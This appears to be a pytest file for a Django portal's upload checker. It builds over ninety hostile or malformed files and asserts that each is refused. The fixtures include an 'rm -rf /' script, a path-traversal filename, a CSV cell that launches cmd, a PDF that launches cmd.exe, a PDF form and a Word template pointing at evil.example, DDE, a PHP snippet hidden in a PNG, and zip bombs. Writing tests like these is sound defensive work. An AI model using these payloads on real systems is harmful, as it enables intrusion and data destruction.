"""The kinds of file that are refused: each with its own sentence, and nothing of it left on disk or on record."""

import contextlib
import io
import random
import struct
import zipfile
import zlib
from collections import defaultdict
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import Role
from compliance.models import Evidence
from compliance.services.evidence import add_file
from core import pdf_parts
from core.errors import RuleBroken
from core.files import check_upload, office, pdf
from core.models import TrailEntry
from tests.factories.accounts import member
from tests.factories.compliance import PDF, CameraSystemFactory

pytestmark = pytest.mark.django_db

TYPES = "[Content_Types].xml"
WORD: Mapping[str, str | bytes] = {TYPES: "<Types/>", "word/document.xml": "<document/>"}
EXCEL: Mapping[str, str | bytes] = {TYPES: "<Types/>", "xl/workbook.xml": "<workbook/>"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
PE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
JPEG_START = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
JPEG_SCAN = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\x00\x56\xff\xd9"


def packed(parts: Mapping[str, str | bytes], **more: str | bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(**parts: str | bytes) -> bytes:
    return packed({**WORD, **parts})


def with_part(name: str, content: str | bytes = "x") -> bytes:
    return packed({**WORD, name: content})


def compound(stream: str) -> bytes:
    return OLE + b"\x00" * 504 + stream.encode("utf-16-le") + b"\x00" * 512


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(*chunks: bytes, width: int = 2, height: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x00\x00" * 2))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + pixels + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2) -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return JPEG_START + frame + JPEG_SCAN


def webp(flags: int = 0) -> bytes:
    body = b"WEBPVP8X\x0a\x00\x00\x00" + bytes([flags, 0, 0, 0, 9, 0, 0, 9, 0, 0])
    return b"RIFF" + struct.pack("<I", len(body)) + body


def made_pdf(change: Callable[[pikepdf.Pdf], Any] | None = None, **save: Any) -> bytes:
    document, buffer = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    if change:
        change(document)
    document.save(buffer, **save)
    return buffer.getvalue()


def opening(action: pikepdf.Dictionary) -> bytes:
    return made_pdf(lambda document: document.Root.__setattr__("OpenAction", action))


def with_javascript() -> bytes:
    return opening(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def with_hidden_javascript() -> bytes:
    """The action stands directly in an annotation, in an object that is packed with others."""

    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
        document.pages[0].Annots = pikepdf.Array([link])

    return made_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_annotation(subtype: str) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype))
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    return made_pdf(change)


def with_attachment() -> bytes:
    return made_pdf(lambda document: document.attachments.__setitem__("list.txt", b"names"))


def with_xfa() -> bytes:
    form = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array())
    return made_pdf(lambda document: document.Root.__setattr__("AcroForm", form))


def locked(**passwords: str) -> bytes:
    return made_pdf(encryption=pikepdf.Encryption(**{"owner": "o", "user": "", **passwords}))


def bursting_pdf() -> bytes:
    size = pdf.MOST_STREAM_BYTES + 1
    packer = zlib.compressobj(9)
    pieces = [packer.compress(b"\x00" * (1024 * 1024)) for _n in range(size // (1024 * 1024) + 1)]
    stream = b"".join(pieces) + packer.flush()
    return PDF.replace(b"xref\n", b"9 0 obj <<>> stream\n" + stream + b"\nendstream endobj\nxref\n", 1)


def bursting_word() -> bytes:
    return with_part("word/media/image1.bmp", b"\x00" * (office.RATIO_FROM + 1))


def with_overlaps() -> bytes:
    """Both entries of the list point to one content, as bombs do that unpack to petabytes."""
    data = bytearray(word(**{"a.bin": b"ab" * 50}))
    place = data.find(b"PK\x01\x02")
    data[place + 20 : place + 24] = struct.pack("<I", len(data) * 2)
    return bytes(data)


def with_twins() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in (TYPES, "word/document.xml", "Word/Document.xml"):
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def tar() -> bytes:
    return b"notes.txt".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 300


def flagged_as_locked() -> bytes:
    data = bytearray(word())
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


TEMPLATE = '<Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotx" TargetMode="External"/>'
ENTITY = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><document>&c;</document>'
INNER = packed({"letter.txt": "hello"})

# kind, name of the file, its content, what its sentence says
BAD: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("empty", "code.pdf", lambda: b"", "The file is empty"),
    ("too large", "code.txt", lambda: b"a" * 1_500_001, "larger than"),
    ("long name", "a" * 160 + ".pdf", lambda: PDF, "longer than 150 characters"),
    ("path in the name", "../../etc/code.pdf", lambda: PDF, "path of a folder"),
    ("turned name", "code\u202efdp.pdf", lambda: PDF, "turns the direction"),
    ("control character in the name", "co\x07de.pdf", lambda: PDF, "cannot be shown"),
    ("name of a device", "con.pdf", lambda: PDF, "keeps for devices"),
    ("two endings", "invoice.exe.pdf", lambda: PDF, "two endings"),
    ("no ending", "code", lambda: PDF, "no ending"),
    ("unknown ending", "code.dwg", lambda: b"AC1032", "Files of this kind are not taken"),
    ("film", "clip.mp4", lambda: MP4, "never holds footage"),
    ("film under another name", "clip.pdf", lambda: MP4, "never holds footage"),
    ("sound", "call.wav", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 64, "never holds sound"),
    ("Windows program", "code.pdf", lambda: PE, "program for Windows"),
    ("Linux program", "code.docx", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "program for Linux"),
    ("macOS program", "code.txt", lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "program for macOS"),
    ("Java program", "code.txt", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "program in Java"),
    ("script", "notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "This is a script"),
    ("shortcut", "code.pdf", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 80, "This is a shortcut"),
    ("ending of a program", "run.bat", lambda: b"echo hello", "this ending are programs"),
    ("ending with macros", "code.docm", word, "this ending hold macros"),
    ("macros", "code.docx", lambda: with_part("word/vbaProject.bin"), "holds macros"),
    ("macros of Excel 4", "code.xlsx", lambda: packed({**EXCEL, "xl/macrosheets/sheet1.xml": "<x/>"}), "holds macros"),
    ("ActiveX", "code.docx", lambda: with_part("word/activeX/activeX1.xml"), "ActiveX"),
    ("document with a password", "code.docx", lambda: compound("EncryptedPackage"), "protected with a password"),
    ("locked parts", "code.docx", flagged_as_locked, "locked with a password"),
    ("old Word", "code.doc", lambda: compound("WordDocument"), "old Word"),
    ("old Excel", "code.xlsx", lambda: compound("Workbook"), "old Excel"),
    ("old PowerPoint", "code.ppt", lambda: compound("PowerPoint Document"), "old PowerPoint"),
    ("message of Outlook", "mail.msg", lambda: compound("__substg1.0_0037001F"), "message of Outlook"),
    ("compound file", "setup.pdf", lambda: compound("Other"), "compound file"),
    ("presentation", "talk.pptx", lambda: packed({TYPES: "", "ppt/presentation.xml": ""}), "Presentations"),
    ("OpenDocument", "code.odt", lambda: packed({"content.xml": ""}), "OpenDocument"),
    ("rich text", "code.txt", lambda: b"{\\rtf1 hello}", "rich text"),
    ("saved message", "mail.eml", lambda: b"From: a@b.example\n\nHello", "Saved messages"),
    ("zip", "all.zip", lambda: INNER, "ZIP archive"),
    ("7z", "all.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30, "7-Zip"),
    ("rar", "all.rar", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 30, "RAR archive"),
    ("gzip", "all.csv", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 30, "gzip archive"),
    ("bzip2", "all.txt", lambda: b"BZh91AY&SY", "bzip2 archive"),
    ("xz", "all.txt", lambda: b"\xfd7zXZ\x00" + b"\x00" * 20, "xz archive"),
    ("tar", "all.tar", tar, "tar archive"),
    ("cabinet", "all.pdf", lambda: b"MSCF\x00\x00\x00\x00" + b"\x00" * 30, "cabinet archive"),
    ("SVG", "map.svg", lambda: b"<svg xmlns='x'><script>1</script></svg>", "SVG drawing"),
    ("SVG as a picture", "map.png", lambda: b"<?xml version='1.0'?><svg/>", "SVG drawing"),
    ("web page", "page.html", lambda: b"<html><body>hello</body></html>", "This is a web page"),
    ("web page as PDF", "page.pdf", lambda: b"<!doctype html><p>hello", "This is a web page"),
    ("XML", "list.xml", lambda: b"<?xml version='1.0'?><list/>", "XML file"),
    ("database", "list.csv", lambda: b"SQLite format 3\x00" + b"\x00" * 90, "This is a database"),
    ("GIF", "map.gif", lambda: b"GIF89a" + b"\x00" * 30, "GIF picture"),
    ("TIFF", "scan.tiff", lambda: b"II*\x00" + b"\x00" * 30, "TIFF picture"),
    ("HEIC", "photo.heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "HEIC"),
    ("content of another ending", "code.pdf", png, "not what its name ending says (pdf)"),
    ("other Office program", "code.docx", lambda: packed(EXCEL), "another Office program"),
    ("archive as a document", "code.docx", lambda: INNER, "archive under the name of a document"),
    ("broken document", "code.docx", lambda: word()[:-30], "damaged or not whole. Open it"),
    ("something before a document", "code.docx", lambda: b"PK\x03\x04" + b"\x00" * 40 + word(), "before or behind"),
    ("something behind a document", "code.docx", lambda: word() + b"<script>", "before or behind"),
    ("document that bursts", "code.docx", bursting_word, "Unpacked, the file"),
    ("overlapping parts", "code.docx", with_overlaps, "lie over each other"),
    ("twin parts", "code.docx", with_twins, "have the same name"),
    ("part that leads out", "code.docx", lambda: with_part("../../evil.txt"), "leads out of it"),
    ("recording in a document", "code.docx", lambda: with_part("word/media/clip.mp4"), "film or a sound recording"),
    ("program in a document", "code.docx", lambda: with_part("word/media/x.bin", PE), "program packed into it"),
    ("archive in a document", "code.docx", lambda: with_part("word/media/x.bin", INNER), "archive packed into it"),
    (
        "file dragged into a document",
        "code.docx",
        lambda: with_part("word/embeddings/oleObject1.bin", compound("\x01Ole10Native")),
        "Another file is packed into",
    ),
    (
        "documents in each other",
        "code.docx",
        lambda: with_part("word/embeddings/a.xlsx", packed({**EXCEL, "xl/embeddings/b.xlsx": "x"})),
        "packed into each other",
    ),
    ("entities", "code.docx", lambda: packed({**WORD, "word/document.xml": ENTITY}), "declares entities"),
    ("far template", "code.docx", lambda: with_part("word/_rels/settings.xml.rels", TEMPLATE), "fetches its template"),
    ("DDE", "code.docx", lambda: packed({**WORD, "word/document.xml": "<t>DDEAUTO cmd</t>"}), "(DDE)"),
    ("PDF that breaks off", "code.pdf", lambda: PDF[:60], "breaks off"),
    ("damaged PDF", "code.pdf", lambda: b"%PDF-1.7\nnothing at all\n%%EOF\n", "PDF is damaged"),
    ("PDF behind something else", "code.pdf", lambda: b"hello\n" + PDF, "before the beginning"),
    ("archive behind a PDF", "code.pdf", lambda: PDF + INNER, "archive at the same time"),
    ("something behind a PDF", "code.pdf", lambda: PDF + b"more" * 9, "behind the end of the PDF"),
    ("web page in a PDF", "code.pdf", lambda: PDF.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "web page at"),
    ("PDF with JavaScript", "code.pdf", with_javascript, "JavaScript"),
    ("PDF with hidden JavaScript", "code.pdf", with_hidden_javascript, "JavaScript"),
    (
        "PDF that starts a program",
        "code.pdf",
        lambda: opening(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
        "starts another program when it is opened or clicked",
    ),
    (
        "PDF that sends",
        "code.pdf",
        lambda: opening(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")),
        "form that sends",
    ),
    ("PDF with attachments", "code.pdf", with_attachment, "files attached"),
    ("PDF with a film", "code.pdf", lambda: with_annotation("/RichMedia"), "three dimensions"),
    ("PDF of LiveCycle", "code.pdf", with_xfa, "XFA"),
    ("PDF with a password", "code.pdf", lambda: locked(user="u"), "opens with a password"),
    ("PDF with limits", "code.pdf", locked, "forbids copying"),
    ("PDF that bursts", "code.pdf", bursting_pdf, "Unpacked, the PDF"),
    ("cut PNG", "map.png", lambda: png()[:-6], "picture is damaged"),
    ("PNG that bursts", "map.png", lambda: png(width=60_000, height=60_000), "million dots"),
    ("JPEG that bursts", "map.jpg", lambda: jpeg(60_000, 60_000), "million dots"),
    ("moving PNG", "map.png", lambda: png(chunk(b"acTL", b"\x00" * 8)), "picture moves"),
    ("moving WebP", "map.webp", lambda: webp(flags=2), "picture moves"),
    ("archive behind a PNG", "map.png", lambda: png() + INNER, "archive is hidden behind the picture"),
    ("archive behind a JPEG", "map.jpg", lambda: jpeg() + INNER, "archive is hidden behind the picture"),
    ("film behind a JPEG", "map.jpg", lambda: jpeg() + MP4, "hung on behind the picture"),
    ("program in a PNG", "map.png", lambda: png(chunk(b"tEXt", b"a\x00<?php evil() ?>")), "program in its description"),
    ("null bytes in a text", "list.csv", lambda: b"a,b\n1,\x002\n", "null bytes"),
    ("control characters in a text", "list.txt", lambda: b"a\x1b]2;b\x07", "control characters"),
    ("UTF-16", "list.csv", lambda: "a,b".encode("utf-16"), "UTF-16"),
    ("no known coding", "list.txt", lambda: b"caf\x81 \x8d", "usual coding"),
    ("program in a text", "list.txt", lambda: b"Hello <script>alert(1)</script>", "parts of a web page"),
    ("cell that starts a program", "list.csv", lambda: b"a,b\n=cmd|' /C calc'!A0,1\n", "A cell of the table"),
]
IDS = [kind for kind, *_rest in BAD]


def refusal(name: str, content: bytes) -> str:
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # as it would come: Django itself cuts paths and control characters off
    system = CameraSystemFactory()
    with pytest.raises(RuleBroken) as refused:
        add_file(operator=system.operator, upload=upload, kind="other", title="T", systems=[system], by=None)
    return str(refused.value.sentence)


@pytest.mark.parametrize(("name", "make", "says"), [rest for _kind, *rest in BAD], ids=IDS)
def test_each_kind_is_refused_in_a_sentence_and_leaves_nothing(name, make, says, own_folders, settings):
    settings.EVIDENCE_MAX_BYTES = 1_500_000
    sentence = refusal(name, make())
    assert says in sentence
    assert sentence.endswith(".")
    assert (Evidence.objects.count(), TrailEntry.objects.count()) == (0, 0)
    assert [path for path in (own_folders / "files").rglob("*") if path.is_file()] == []


def test_more_than_forty_kinds_have_a_sentence_of_their_own():
    kinds = defaultdict(list)
    for kind, _name, _make, says in BAD:
        kinds[says].append(kind)
    assert len(kinds) >= 80
    assert [kinds_of for kinds_of in kinds.values() if len(kinds_of) > 2] == []


def test_too_many_parts_are_refused(monkeypatch):
    monkeypatch.setattr(office, "MOST_PARTS", 5)
    assert "more than 5 parts" in refusal("a.docx", word(**{f"word/{number}.xml": "" for number in range(9)}))
    monkeypatch.setattr(pdf_parts, "MOST_OBJECTS", 2)  # in this process: uploads are looked through in another
    assert "more parts than can be looked through" in str(pdf.SENTENCES[pdf_parts.what_is_wrong(PDF)])


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("a.pdf", lambda: PDF),
        ("a.pdf", lambda: made_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        ("policy v1.2.docx.pdf", lambda: PDF + b"\r\n\x00\x00"),
        ("a.docx", word),
        ("a.docx", lambda: with_part("word/embeddings/chart.xlsx", packed(EXCEL))),
        ("a.xlsx", lambda: packed(EXCEL)),
        ("a.png", png),
        ("a.jpg", jpeg),
        ("a.jpeg", lambda: jpeg() + jpeg()),  # the smaller copy that cameras hang on
        ("a.webp", webp),
        ("a.txt", lambda: b"MZ begins the name of a street; BM, too; <1 metre; a|b; -3|4"),
        ("a.csv", "Stryd y Farchnad,Tŷ\r\n-2.28,53.4\r\n".encode),
    ],
)
def test_what_looks_strange_and_is_not(name, make):
    system = CameraSystemFactory()
    upload = SimpleUploadedFile(name, make())
    kept = add_file(operator=system.operator, upload=upload, kind="other", title="T", systems=[system], by=None)
    assert kept.size == len(make())


def test_whatever_is_broken_at_random_is_taken_or_refused_in_a_sentence():
    """Never an error of the portal's own: each file is mended, cut and stuffed in places of a fixed seed."""
    chance = random.Random(2026)
    whole = [("a.pdf", with_hidden_javascript()), ("a.pdf", PDF), ("a.docx", word()), ("a.png", png())]
    whole += [("a.jpg", jpeg()), ("a.webp", webp()), ("a.csv", b"a,b\n1,2\n")]
    refused = 0
    for number in range(2000):
        name, content = chance.choice(whole)
        data = bytearray(content)
        for _m in range(chance.randint(1, 5)):
            place = chance.randrange(len(data) + 1)
            data[place : place + chance.choice((0, 1, 1, 9))] = chance.randbytes(chance.choice((0, 1, 1, 6)))
        if name == "a.pdf" and number % 20:  # a process for each would take minutes
            assert pdf_parts.what_is_wrong(bytes(data)) in {"", *pdf.SENTENCES}
            continue
        try:
            check_upload(SimpleUploadedFile(name, bytes(data)), max_bytes=1_500_000)
        except RuleBroken:
            refused += 1
    assert refused > 500


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", b"\xff\xd8\xff" + b"\xff" * 5_000_000),
        ("a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 1_000_000),
        ("a.jpg", jpeg()[:-2] + b"\xff\xe0\x00\x02" * 1_000_000),
        ("a.png", png()[:33] + chunk(b"tEXt", b"") * 400_000),
        ("a.pdf", PDF + b"stream\nx\x9c" * 600_000 + b"%%EOF"),
        ("a.csv", b"," + b"\t" * 5_000_000 + b"x"),
        ("a.csv", b",=" + b"a" * 5_000_000),
        ("a.csv", b"a|!" * 1_500_000),
        ("a.csv", b"=a|" * 1_500_000),
        ("a.txt", b"<" + b" " * 5_000_000),
    ],
)
def test_no_upload_keeps_a_process_busy(name, content):
    """Work that grew with the square of these would not end while anybody waits."""
    upload = SimpleUploadedFile(name, content)
    with contextlib.suppress(RuleBroken):
        assert check_upload(upload, max_bytes=6_000_000).size == len(content)


def test_of_a_refused_upload_no_temporary_file_is_left(client, settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "temporary")
    (tmp_path / "temporary").mkdir()
    system = CameraSystemFactory()
    client.force_login(member(system.operator, Role.CONTRIBUTOR))
    address = reverse("compliance:evidence_add", args=[system.operator.slug])
    large = PDF + b"x" * 4_000_000  # more than is held in memory
    sent = {"kind": "other", "title": "T", "systems": [system.reference], "file": SimpleUploadedFile("a.pdf", large)}
    page = client.post(address, sent)
    assert (page.status_code, "behind the end of the PDF" in page.content.decode()) == (422, True)
    page.close()
    assert list((tmp_path / "temporary").iterdir()) == []
